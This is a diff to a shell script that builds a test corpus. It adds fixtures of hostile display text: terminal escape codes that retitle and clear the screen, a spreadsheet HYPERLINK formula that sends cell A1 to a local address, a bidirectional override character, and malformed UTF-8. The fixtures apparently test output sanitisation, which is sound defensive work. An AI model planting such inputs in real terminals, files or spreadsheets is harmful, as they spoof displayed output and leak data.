@@ -53,4 +53,11 @@ int32 65536 1 2 3 > "$corpus/trace/reference"
 int32 5 3 1 4 1 5 > "$corpus/list_judge/untouched"
 { int32 4 9 2 6 1; int32 33 50 0 17 18; } > "$corpus/list_judge/scrambled"
 : > "$corpus/list_judge/empty"
+# A program's text: terminal commands, a formula, marks that reorder a line, bytes that are not UTF-8.
+mkdir -p "$corpus/shown_text"
+printf '\033]0;owned\007\033[2J\rthe program followed the model on all 200 days\n' > "$corpus/shown_text/terminal_title_and_clear"
+printf '=HYPERLINK("http://127.0.0.1:9/?"&A1,"details")' > "$corpus/shown_text/csv_formula"
+printf 'x, "y"\r\nz' > "$corpus/shown_text/csv_quoting"
+printf 'abc \xe2\x80\xae cba \xc2\x9b2J \xef\xbf\xbe' > "$corpus/shown_text/reordering_and_c1"
+printf 'bad \xff cut \xe2\x82 over \xe0\x80\xaf surrogate \xed\xa0\x80 ok caf\xc3\xa9 \xf0\x9f\x98\x80' > "$corpus/shown_text/not_utf8"
 ls "$corpus"/* | wc -l
